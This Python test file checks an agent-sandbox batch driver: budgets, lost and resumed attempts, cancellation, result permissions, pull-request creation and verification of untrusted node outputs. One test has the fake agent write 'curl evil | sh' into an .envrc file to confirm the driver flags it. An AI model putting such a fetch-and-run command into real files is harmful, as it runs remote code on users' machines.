"""The batch driver's logic on the real launcher with the FakeBackend: milliseconds a task.

The node side is a real :class:`~agentbox.cluster.NodeService` (a real launcher, real
git bundles in and out, real publishing into real repos); only the sandbox is the
FakeBackend and the gateway a stand-in that writes the usage file. Ray is not needed:
the driver runs over the local executor, and a subclass of it loses attempts the way
a dead Ray node does. The Ray tests (tests/integration/test_cluster_ray.py) prove the
same paths on a real multi-node cluster with the real Claude Code.
"""

from __future__ import annotations

import concurrent.futures
import json
import os
import socket
import subprocess
import threading
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from agentbox.backends.fake import FakeBackend, FakeSandbox, FakeScript
from agentbox.cluster import (
    Attempt,
    BatchEvent,
    BatchResult,
    BatchState,
    BatchTask,
    LocalExecutor,
    NodeService,
    read_tasks,
    run_batch,
)
from agentbox.config import Settings
from agentbox.core.paths import TaskPaths
from agentbox.errors import ConfigError
from agentbox.gateway import GatewayHandle
from agentbox.gateway._usage import Usage, write_usage
from agentbox.launcher import _runner
from git_helpers import git

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0, reason="the launcher chowns the workspace to the sandbox uid (root)"
)


class _Gateway(GatewayHandle):
    """A stand-in gateway (a real process, a real socket, the usage file)."""

    def __init__(self, *, socket_path: Path, usage_file: Path, model: str, budget: int) -> None:
        proc = subprocess.Popen(["sleep", "600"], start_new_session=True)
        super().__init__(proc, socket_path=socket_path, usage_file=usage_file, log_file=None)
        self.listener = socket.socket(socket.AF_UNIX)
        self.listener.bind(str(socket_path))
        write_usage(usage_file, Usage(model=model, budget=budget))

    def stop(self, grace: float = 5.0) -> int | None:
        self.listener.close()
        return super().stop(grace=min(grace, 1.0))


@pytest.fixture
def node(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Iterator[NodeService]:
    FakeBackend.reset()
    monkeypatch.setattr(
        _runner,
        "spawn_gateway",
        lambda **kw: _Gateway(
            socket_path=kw["socket_path"],
            usage_file=kw["usage_file"],
            model=kw["model"],
            budget=kw["budget"],
        ),
    )
    with FakeBackend.installed_as("podman"):
        svc = NodeService(settings, slots=2, name="n1", check=False)
        try:
            yield svc
        finally:
            svc.close()
    assert FakeBackend.live_names() == [], "a fake sandbox survived its task"
    FakeBackend.reset()


def _repo(path: Path) -> Path:
    path.mkdir(parents=True)
    git(path, "init", "-q", "-b", "main")
    (path / "README.md").write_text("hello\n")
    git(path, "add", "-A")
    git(path, "commit", "-q", "-m", "init")
    return path


@pytest.fixture
def repos(tmp_path: Path) -> list[Path]:
    """Two repos on the "driver" (outside the node's repos root)."""
    return [_repo(tmp_path / "driver" / "alpha"), _repo(tmp_path / "driver" / "beta")]


def _writes(
    name: str, data: bytes, *, tokens: int = 0, delay: float = 0.0, seen: list[str] | None = None
) -> FakeScript:
    """The "agent" writes ``name`` and, with ``tokens``, bills them in its usage file."""

    def act(box: FakeSandbox, argv: Sequence[str]) -> None:
        tid = box.name.removeprefix("agentbox-task-")
        if seen is not None:
            seen.append(tid)
        if tokens:
            paths = TaskPaths(box.backend.settings.data_dir, tid)
            write_usage(paths.usage_file, Usage(model="x", input=tokens, budget=10**9))

    return FakeScript(files={name: data}, action=act, delay=delay)


def _tasks(repos: list[Path], n: int, **extra: Any) -> list[tuple[str, BatchTask]]:
    return [
        (f"t{i}", BatchTask(repo=str(repos[i % len(repos)]), task=f"task {i}", **extra))
        for i in range(n)
    ]


def _branches(repo: Path) -> list[str]:
    out = git(repo, "for-each-ref", "--format=%(refname:short)", "refs/heads/agentbox/")
    return sorted(out.split())


def test_every_task_lands_once_and_a_rerun_resumes_without_work(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    state = tmp_path / "batches"
    events: list[BatchEvent] = []
    with FakeBackend.scripted(_writes("out.txt", b"from the node\n")):
        ex = LocalExecutor(node)
        got = list(
            run_batch(
                _tasks(repos, 4),
                executor=ex,
                state_dir=state,
                batch_id="b1",
                on_event=events.append,
            )
        )
        ex.close()
    assert sorted(r.status for r in got) == ["done"] * 4, got
    assert _branches(repos[0]) == ["agentbox/b1-t0", "agentbox/b1-t2"]
    assert _branches(repos[1]) == ["agentbox/b1-t1", "agentbox/b1-t3"]
    assert git(repos[0], "show", "agentbox/b1-t0:out.txt") == "from the node\n"
    # The base is the driver's commit: the branch is one commit on top of it.
    assert (
        git(repos[0], "rev-parse", "agentbox/b1-t0~1").strip()
        == git(repos[0], "rev-parse", "main").strip()
    )
    assert {e.event for e in events} >= {"batch", "placed", "finished", "published", "end"}
    phases = {"placement", "unbundle", "queued", "task", "bundle", "return", "publish", "total"}
    assert all(phases <= set(r.timings) for r in got), got[0].timings
    created = [n for v, n in FakeBackend.events if v == "create"]
    tips = {b: git(repos[0], "rev-parse", b) for b in _branches(repos[0])}

    # The same batch again: nothing runs, nothing is fetched, the same results come back.
    ex = LocalExecutor(node)
    again = list(run_batch(None, executor=ex, state_dir=state, batch_id="b1"))
    ex.close()
    assert all(r.resumed for r in again) and len(again) == 4
    assert [n for v, n in FakeBackend.events if v == "create"] == created
    assert {b: git(repos[0], "rev-parse", b) for b in _branches(repos[0])} == tips


def test_the_batch_budget_is_reserved_before_placing(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    """Budget 250, tasks of 100 that spend all of it: two run (never three at once), the
    other three are skipped; the batch never commits more than its budget."""
    running, peak, lock = [0], [0], threading.Lock()

    def act(box: FakeSandbox, argv: Sequence[str]) -> None:
        with lock:
            running[0] += 1
            peak[0] = max(peak[0], running[0])
        tid = box.name.removeprefix("agentbox-task-")
        write_usage(
            TaskPaths(node.settings.data_dir, tid).usage_file,
            Usage(model="x", input=100, budget=100),
        )
        threading.Event().wait(0.3)
        with lock:
            running[0] -= 1

    ex = LocalExecutor(node)
    with FakeBackend.scripted(FakeScript(files={"f.txt": b"x\n"}, action=act)):
        got = list(
            run_batch(
                _tasks(repos, 5, budget=100),
                executor=ex,
                state_dir=tmp_path / "b",
                batch_id="b2",
                budget=250,
            )
        )
    ex.close()
    assert sorted(r.status for r in got) == ["done", "done", "skipped", "skipped", "skipped"]
    assert sum(r.tokens for r in got) == 200
    assert peak[0] == 2
    st = BatchState(tmp_path / "b" / "b2" / "batch.db")
    try:
        assert st.committed() <= 250
    finally:
        st.close()
    assert all("budget" in r.error for r in got if r.status == "skipped")


class _Lost(RuntimeError):
    """What the Ray executor reports for an attempt whose node died."""


class _FlakyExecutor(LocalExecutor):
    """Loses the first attempt of every task named in ``lose``, as a dead node would:
    the attempt really ran (partly) on the node, then its outcome never came back."""

    def __init__(self, service: NodeService, lose: set[str]) -> None:
        super().__init__(service)
        self.lose = lose

    def place(self, attempt: Attempt, bundle: object, *, node: str | None) -> Any:
        fut = super().place(attempt, bundle, node=node)
        if not any(attempt.attempt_id.endswith(f"-{k}") for k in self.lose):
            return fut
        lost: concurrent.futures.Future[dict[str, Any]] = concurrent.futures.Future()
        fut.add_done_callback(lambda _f: lost.set_exception(_Lost("node died")))
        return lost

    def is_lost(self, exc: BaseException) -> bool:
        return isinstance(exc, _Lost)


def test_a_lost_attempt_runs_again_under_a_new_id_and_only_that_one_is_published(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    events: list[BatchEvent] = []
    ex = _FlakyExecutor(node, {"t1"})
    with FakeBackend.scripted(_writes("out.txt", b"x\n")):
        got = {
            r.key: r
            for r in run_batch(
                _tasks(repos[:1], 3),
                executor=ex,
                state_dir=tmp_path / "b",
                batch_id="b3",
                on_event=events.append,
            )
        }
    ex.close()
    assert {k: r.status for k, r in got.items()} == {"t0": "done", "t1": "done", "t2": "done"}
    assert got["t1"].attempt_id == "b3-t1-r1"
    assert len(got["t1"].lost_attempts) == 1 and got["t1"].lost_attempts[0].startswith("b3-t1@")
    # The dead attempt's (partial) result is never fetched: one branch per task.
    assert _branches(repos[0]) == ["agentbox/b3-t0", "agentbox/b3-t1-r1", "agentbox/b3-t2"]
    assert [e.attempt_id for e in events if e.event == "lost"] == ["b3-t1"]


def test_a_resumed_driver_asks_again_for_running_attempts_and_nothing_runs_twice(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    seen: list[str] = []
    with FakeBackend.scripted(_writes("out.txt", b"x\n", delay=0.4, seen=seen)):
        ex = LocalExecutor(node)
        gen = run_batch(
            _tasks(repos, 4), executor=ex, state_dir=tmp_path / "b", batch_id="b4", max_in_flight=2
        )
        first = next(gen)
        gen.close()  # the driver dies with one result in hand and others placed
        ex.close()
        ex = LocalExecutor(node)
        rest = list(run_batch(None, executor=ex, state_dir=tmp_path / "b", batch_id="b4"))
        ex.close()
    assert first.status == "done"
    assert sorted(r.key for r in rest) == ["t0", "t1", "t2", "t3"]
    assert all(r.status == "done" for r in rest), rest
    assert sorted(seen) == sorted(set(seen)) and len(seen) == 4, seen  # each attempt ran once
    assert sum(len(_branches(r)) for r in repos) == 4


def test_submit_is_idempotent_on_the_attempt_id(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    from agentbox.cluster._gitio import bundle_base

    base, data = bundle_base(repos[0])
    att = Attempt(attempt_id="idem-1", task="t", budget=1000, deadline=60, base=base)
    seen: list[str] = []
    with (
        FakeBackend.scripted(_writes("o.txt", b"o\n", delay=0.2, seen=seen)),
        concurrent.futures.ThreadPoolExecutor(3) as pool,
    ):
        outs = list(pool.map(lambda _i: node.run(att, data), range(3)))
    assert seen == ["idem-1"]
    assert {o.commit for o in outs} != {""} and len({o.commit for o in outs}) == 1


def test_a_tasks_file_is_checked_line_by_line(tmp_path: Path) -> None:
    f = tmp_path / "tasks.jsonl"
    f.write_text('{"repo": "/r", "task": "a"}\n\n{"repo": "/r", "task": "b", "key": "x"}\n')
    assert [k for k, _ in read_tasks(f)] == ["t1", "x"]
    for bad in (
        '{"repo": "/r"}',
        '{"repo": "/r", "task": "a", "budget": "5"}',
        '{"repo": "/r", "task": "a", "extra": 1}',
        "not json",
    ):
        f.write_text(bad + "\n")
        with pytest.raises(ConfigError, match=r"tasks.jsonl:1"):
            list(read_tasks(f))


def test_a_result_bundle_that_is_not_the_claimed_commit_is_refused(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    """A node's outcome is untrusted: a commit id that is not its bundle's branch is
    never published."""
    ex = LocalExecutor(node)
    real_place = ex.place

    def lying(attempt: Attempt, bundle: object, *, node: str | None) -> Any:
        fut = real_place(attempt, bundle, node=node)
        out: concurrent.futures.Future[dict[str, Any]] = concurrent.futures.Future()
        fut.add_done_callback(lambda f: out.set_result({**f.result(), "commit": "1" * 40}))
        return out

    ex.place = lying  # type: ignore[method-assign]
    with FakeBackend.scripted(_writes("out.txt", b"x\n")):
        (res,) = list(
            run_batch(_tasks(repos[:1], 1), executor=ex, state_dir=tmp_path / "b", batch_id="b5")
        )
    ex.close()
    assert isinstance(res, BatchResult) and not res.branch
    assert "not published" in res.error
    assert _branches(repos[0]) == []


def test_cancelling_a_batch_skips_the_queued_and_cancels_the_running(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    """``agentbox batch cancel`` only writes the flag; the running driver sees it."""
    ex = LocalExecutor(node)
    events: list[BatchEvent] = []

    def cancel_once_running(ev: BatchEvent) -> None:
        events.append(ev)
        if ev.event == "placed" and sum(e.event == "placed" for e in events) == 2:
            st = BatchState(tmp_path / "b" / "b6" / "batch.db")
            st.request_cancel()
            st.close()

    with FakeBackend.scripted(_writes("out.txt", b"x\n", delay=60)):
        got = {
            r.key: r
            for r in run_batch(
                _tasks(repos, 4),
                executor=ex,
                state_dir=tmp_path / "b",
                batch_id="b6",
                max_in_flight=2,
                on_event=cancel_once_running,
            )
        }
    ex.close()
    assert {k: r.status for k, r in got.items()} == {
        "t0": "cancelled",
        "t1": "cancelled",
        "t2": "cancelled",
        "t3": "cancelled",
    }
    assert "before it ran" in got["t2"].error and "before it ran" in got["t3"].error
    assert len(node.launcher.list()) == 2  # the two queued ones never reached the node


def _twist(ex: LocalExecutor, change: Any) -> None:
    """Make ``ex``'s node answer ``change(outcome)`` instead of its real outcome."""
    real_place = ex.place

    def place(attempt: Attempt, bundle: object, *, node: str | None) -> Any:
        fut = real_place(attempt, bundle, node=node)
        out: concurrent.futures.Future[dict[str, Any]] = concurrent.futures.Future()
        fut.add_done_callback(lambda f: out.set_result(change(f.result())))
        return out

    ex.place = place  # type: ignore[method-assign]


def test_a_node_that_hides_flagged_paths_is_caught_and_the_driver_lists_them(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    """The driver computes the flagged paths from the fetched tree: a node that sends an
    empty ``report.flagged`` for a result adding ``.envrc`` is named in the error, and the
    result still lists ``.envrc``. Control: the honest node's result, no error."""
    ex = LocalExecutor(node)
    with FakeBackend.scripted(_writes(".envrc", b"curl evil | sh\n")):
        (honest,) = list(
            run_batch(_tasks(repos[:1], 1), executor=ex, state_dir=tmp_path / "b", batch_id="h")
        )
    assert honest.flagged == (".envrc",) and honest.error == "", honest
    _twist(ex, lambda out: {**out, "report": {**out["report"], "flagged": []}})
    with FakeBackend.scripted(_writes(".envrc", b"curl evil | sh\n")):
        (lied,) = list(
            run_batch(_tasks(repos[1:], 1), executor=ex, state_dir=tmp_path / "b", batch_id="l")
        )
    ex.close()
    assert lied.status == "done" and lied.branch, lied
    assert lied.flagged == (".envrc",)
    assert "misreported the flagged paths (left out: .envrc" in lied.error
    report = tmp_path / "b" / "l" / "results" / f"{lied.attempt_id}.report.json"
    assert [f["path"] for f in json.loads(report.read_text())["flagged"]] == [".envrc"]


def test_batch_results_are_private_to_their_owner(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    """Bundles, reports and transcripts under ``<state>/<batch>/results`` are 0600 in 0700
    dirs: a local user (``nobody``) can neither list nor read them, though every parent
    above the batch is open to it."""
    import tempfile

    open_root = Path(tempfile.mkdtemp(prefix="agentbox-batchperm-", dir="/var/tmp"))
    try:
        open_root.chmod(0o755)
        state = open_root / "batches"
        ex = LocalExecutor(node)
        with FakeBackend.scripted(_writes("out.txt", b"secret result\n")):
            (res,) = list(
                run_batch(_tasks(repos[:1], 1), executor=ex, state_dir=state, batch_id="p")
            )
        ex.close()
        assert res.status == "done" and res.branch
        results = state / "p" / "results"
        files = sorted(results.iterdir())
        assert {f.name.split(".", 1)[1] for f in files} == {
            "bundle",
            "report.json",
            "transcript.json",
        }
        for d in (state / "p", results):
            assert d.stat().st_mode & 0o777 == 0o700, d
        for f in files:
            assert f.stat().st_mode & 0o777 == 0o600, f
        for argv in (["ls", str(results)], *(["cat", str(f)] for f in files)):
            got = subprocess.run(
                ["runuser", "-u", "nobody", "--", *argv], capture_output=True, text=True
            )
            assert got.returncode != 0 and "Permission denied" in got.stderr, (argv, got)
    finally:
        import shutil

        shutil.rmtree(open_root, ignore_errors=True)


def test_batch_pr_pushes_each_result_as_the_repo_owner_and_opens_pull_requests(
    node: NodeService, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``batch run --pr`` (issue 28 §5): each published result is pushed to its repo's remote
    as the repo's owner and a pull request opened, on a local GitHub API server that checks
    every request against GitHub's OpenAPI description."""
    import pwd
    import secrets as _secrets
    import shutil
    import tempfile

    from forge_servers import ForgeServer

    name = f"abxbp-{_secrets.token_hex(3)}"
    subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin",
                    name], check=True)  # fmt: skip
    base = Path(tempfile.mkdtemp(prefix="agentbox-batchpr-", dir="/var/tmp"))
    try:
        base.chmod(0o755)
        pw = pwd.getpwnam(name)
        repo = _repo(base / "alpha")
        remote = base / "remote.git"
        subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
        git(repo, "remote", "add", "origin", "https://github.com/octo/hello.git")
        git(repo, "remote", "set-url", "--push", "origin", f"file://{remote}")

        def chown(p: Path) -> None:
            subprocess.run(["chown", "-R", f"{pw.pw_uid}:{pw.pw_gid}", str(p)], check=True)

        chown(remote)
        with ForgeServer("github") as server:
            monkeypatch.setenv("AGENTBOX_FORGE_HOSTS", f"github.com=github:{server.url}")
            monkeypatch.setenv("GITHUB_TOKEN", "ghp_batchtest_0123456789")
            events: list[BatchEvent] = []

            def on_event(ev: BatchEvent) -> None:
                # The driver reads the repo as root to bundle its base (root's repo, as the
                # driver's other tests); from then on it is the user's, as a user's driver.
                if ev.event == "batch":
                    chown(repo)
                events.append(ev)

            with FakeBackend.scripted(_writes("out.txt", b"from the node\n")):
                ex = LocalExecutor(node)
                got = list(run_batch(_tasks([repo], 2), executor=ex, state_dir=base / "state",
                                     batch_id="bp", on_event=on_event, pr=True,
                                     draft=True))  # fmt: skip
                ex.close()
            assert sorted(r.status for r in got) == ["done", "done"], got
            assert all(not r.error for r in got), [r.error for r in got]
            assert server.errors == []
            creates = [r for r in server.requests if r.method == "POST"]
            assert sorted(c.body["head"] for c in creates) == ["agentbox/bp-t0", "agentbox/bp-t1"]
            assert all(c.body["draft"] is True for c in creates)
            urls = [e.detail for e in events if e.event == "pull_request"]
            assert len(urls) == 2 and all(u.startswith("https://github.com/octo/hello/pull/")
                                          for u in urls)  # fmt: skip
        for b in ("agentbox/bp-t0", "agentbox/bp-t1"):
            pushed = subprocess.run(
                ["git", "--git-dir", str(remote), "rev-parse", b],
                capture_output=True,
                text=True,
                check=True,
            ).stdout.strip()
            assert pushed == git(repo, "rev-parse", b).strip()
        owners = {p.stat().st_uid for p in (remote / "objects").rglob("*") if p.is_file()}
        assert owners == {pw.pw_uid}
    finally:
        shutil.rmtree(base, ignore_errors=True)
        subprocess.run(["userdel", name], check=False)


def test_a_best_of_n_line_runs_a_group_on_its_node_and_reports_its_pick(
    node: NodeService, repos: list[Path], tmp_path: Path
) -> None:
    """A line with ``"attempts": 2`` is one group on the node: two attempts, each its own
    sandbox; the node publishes the pick (no tests ran: the smaller diff, attempt 2) as the
    line's branch, and the driver reports the group and its pick."""

    def act(box: FakeSandbox, argv: Sequence[str]) -> None:
        tid = box.name.removeprefix("agentbox-task-")
        text = "one line\n" if tid.endswith("-a2") else "two\nlines\n"
        ws = TaskPaths(box.backend.settings.data_dir, tid).workspace
        (ws / "out.txt").write_text(f"{tid}\n{text}")

    events: list[BatchEvent] = []
    lines = [("g", BatchTask(repo=str(repos[0]), task="best of two", attempts=2)),
             ("s", BatchTask(repo=str(repos[1]), task="alone"))]  # fmt: skip
    with FakeBackend.scripted(FakeScript(action=act)):
        ex = LocalExecutor(node)
        got = {r.key: r for r in run_batch(lines, executor=ex, state_dir=tmp_path / "batches",
                                           batch_id="bn", on_event=events.append)}  # fmt: skip
        ex.close()
    g, s = got["g"], got["s"]
    assert g.status == "done" and g.branch == "agentbox/bn-g", g
    assert g.pick == 2 and g.group is not None, g
    assert g.group["group"] == "bn-g" and g.group["pick_id"] == "bn-g-a2"
    assert [a["id"] for a in g.group["attempts"]] == ["bn-g-a1", "bn-g-a2"]
    assert [a["status"] for a in g.group["attempts"]] == ["done", "done"]
    assert "repo" not in g.group and all("test_command" not in a for a in g.group["attempts"])
    assert git(repos[0], "show", "agentbox/bn-g:out.txt") == "bn-g-a2\none line\n"
    # Each attempt ran in a sandbox of its own and wrote its own result.
    assert {n for _, n in FakeBackend.events if "bn-g-a" in n} >= {
        "agentbox-task-bn-g-a1",
        "agentbox-task-bn-g-a2",
    }, FakeBackend.events
    # A line of one attempt is as before: no group, no pick.
    assert s.status == "done" and s.pick is None and s.group is None
    grouped = [e for e in events if e.event == "group"]
    assert [e.key for e in grouped] == ["g"] and json.loads(grouped[0].detail)["pick"] == 2
    assert any(e.event == "finished" and e.key == "g" and "pick 2 of 2" in e.detail
               for e in events)  # fmt: skip
